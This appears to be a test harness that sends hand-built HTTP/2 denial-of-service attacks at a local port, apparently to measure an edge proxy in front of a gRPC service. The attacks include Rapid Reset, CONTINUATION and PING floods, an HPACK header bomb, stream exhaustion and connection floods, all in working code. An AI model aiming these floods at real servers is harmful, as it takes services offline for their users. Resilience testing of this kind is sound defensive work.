#!/usr/bin/env python3
"""Attacks on an HTTP/2 port, with frames written by hand.

usage: h2_attacks.py ATTACK PORT SECONDS [--plain]
Prints one JSON line: how many connections were opened and how many frames and bytes were sent.
"""

import json
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header that is not added to the table, both parts without Huffman coding."""
    def text(data):
        prefix = bytes([len(data)]) if len(data) < 127 else b"\x7f" + varint(len(data) - 127)
        return prefix + data
    return b"\x00" + text(name) + text(value)


def varint(value):
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def request(path=b"/sinew.v1.InfoService/GetServerInfo"):
    return (b"\x83\x86" + literal(b":path", path) + literal(b":authority", b"sinew") +
            literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


class Connection:
    """Counts what it sends; `alive` is false once the other side has closed."""

    def __init__(self, port, source, plain):
        raw = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=source)
        if plain:
            self.socket = raw
        else:
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(raw)
        self.alive = True
        self.bytes = 0
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        try:
            self.socket.settimeout(2)
            self.socket.sendall(data)
            self.bytes += len(data)
        except (OSError, ssl.SSLError):
            self.alive = False
        return self.alive

    def drain(self):
        """Reads what has come, so that replies do not block the other side."""
        self.socket.settimeout(0)
        try:
            while self.alive:
                if not self.socket.recv(1 << 16):
                    self.alive = False
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except (OSError, ssl.SSLError):
            self.alive = False

    def headers(self):
        """Waits for the first headers of a reply: their flags and bytes, which haproxy does not compress."""
        self.socket.settimeout(30)
        data = b""
        while True:
            end = 9 + int.from_bytes(data[:3], "big")
            if len(data) < max(9, end):
                more = self.socket.recv(1 << 16)
                if not more:
                    raise ConnectionError("closed without a reply")
                data += more
            elif data[3] == HEADERS:
                return data[4], data[9:end]
            else:
                data = data[end:]

    def close(self):
        self.socket.close()


class Attack:
    def __init__(self, name, port, seconds, plain):
        self.port, self.plain = port, plain
        # The edge remembers what an address has done: each attack comes from one of its own.
        self.source = (f"127.0.1.{1 + ATTACKS.index(name)}", 0)
        self.end = time.monotonic() + seconds
        self.connections = self.refused = self.frames = self.bytes = 0

    def running(self):
        return time.monotonic() < self.end

    def connect(self):
        try:
            connection = Connection(self.port, self.source, self.plain)
            self.connections += 1
            return connection
        except (OSError, ssl.SSLError):
            self.refused += 1
            time.sleep(0.01)  # the port is closed to us: do not measure how fast we can fail
            return None

    def repeat(self, opening, burst, frames):
        """Sends `opening`, then burst(n) again and again, over a new connection whenever one has ended."""
        while self.running():
            connection = self.connect()
            if connection is None:
                continue
            connection.send(opening)
            n = 0
            while self.running() and connection.alive:
                connection.send(burst(n))
                connection.drain()
                self.frames += frames
                n += 1
            self.bytes += connection.bytes
            connection.close()

    def continuation(self):
        """A request whose headers never end."""
        more = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 1000) * 16) * 16
        self.repeat(frame(HEADERS, END_STREAM, 1, request()), lambda n: more, 16)

    def rapid_reset(self):
        """Requests that are cancelled as soon as they are sent."""
        def burst(n):
            first = 1 + 2 * 100 * n
            if first > 2**30:
                return frame(7, 0, 0, bytes(8))
            return b"".join(frame(HEADERS, END_HEADERS, first + 2 * i, request()) +
                            frame(RST_STREAM, 0, first + 2 * i, struct.pack(">I", 8)) for i in range(100))
        self.repeat(b"", burst, 200)

    def pings(self):
        self.repeat(b"", lambda n: frame(PING, 0, 0, b"12345678") * 500, 500)

    def settings(self):
        self.repeat(b"", lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 500, 500)

    def empty_data(self):
        self.repeat(frame(HEADERS, END_HEADERS, 1, request()), lambda n: frame(DATA, 0, 1) * 500, 500)

    def priorities(self):
        def burst(n):
            return b"".join(frame(PRIORITY, 0, 1 + 2 * i, struct.pack(">IB", 0, 16)) for i in range(500))
        self.repeat(b"", burst, 500)

    def window_updates(self):
        """Of a byte each, until the window is full and the connection ends, and of none, which is an error."""
        def burst(n):
            return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 499 + frame(WINDOW_UPDATE, 0, 1, bytes(4))
        self.repeat(frame(HEADERS, END_HEADERS, 1, request()), burst, 500)

    def header_bomb(self):
        """One header of 4,000 bytes put into the table, then referred to thousands of times in a request."""
        big = b"\x40" + b"\x01x" + b"\x7f" + varint(4000 - 127) + b"y" * 4000
        def burst(n):
            return frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * n, request() + big + b"\xbe" * 10000)
        self.repeat(b"", burst, 1)

    def open_calls(self):
        """Health checks that are watched for ever, which need no token."""
        def calls(connection):
            for stream in range(1, 241, 2):
                connection.send(frame(HEADERS, END_HEADERS, stream, request(b"/grpc.health.v1.Health/Watch")) +
                                frame(DATA, END_STREAM, stream, bytes(5)))
        kept = []
        while self.running() or self.connections + self.refused < 40:  # 4,800 calls: more than the edge passes on
            connection = self.connect() if len(kept) < 60 else None
            if connection:
                calls(connection)
                self.frames += 240
                kept.append(connection)
        for each in kept:
            each.drain()
            each.close()

    def connection_flood(self):
        """Connections that are opened and kept, silent."""
        kept = []
        while self.running():
            try:
                kept.append(socket.create_connection(("127.0.0.1", self.port), 1, self.source))
                self.connections += 1
            except OSError:
                self.refused += 1
                time.sleep(0.01)
            if len(kept) >= 2000:
                for each in kept:
                    each.close()
                kept = []
        for each in kept:
            each.close()


ATTACKS = ("continuation", "rapid_reset", "pings", "settings", "empty_data", "priorities", "window_updates",
           "header_bomb", "open_calls", "connection_flood")


def main(arguments):
    plain = "--plain" in arguments
    name, port, seconds = [each for each in arguments if each != "--plain"]
    if name not in ATTACKS:
        print(__doc__, file=sys.stderr)
        return 64
    attack = Attack(name, int(port), float(seconds), plain)
    getattr(attack, name)()
    print(json.dumps({"attack": name, "connections": attack.connections, "refused": attack.refused,
                      "frames": attack.frames, "bytes": attack.bytes}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
